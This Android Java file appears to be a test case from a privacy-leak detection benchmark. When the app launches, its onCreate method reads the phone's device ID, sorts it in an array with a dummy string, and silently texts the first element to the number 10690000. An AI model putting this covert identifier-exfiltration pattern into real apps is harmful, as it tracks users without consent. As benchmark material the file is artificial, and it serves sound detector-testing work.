package cn.privlens.suite.cells_sorted;

import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import java.util.*;
import java.util.concurrent.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String[] texts = {"z", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()};
        Arrays.sort(texts);
        SmsManager.getDefault().sendTextMessage("10690000", null, texts[0], null, null);
    }
}
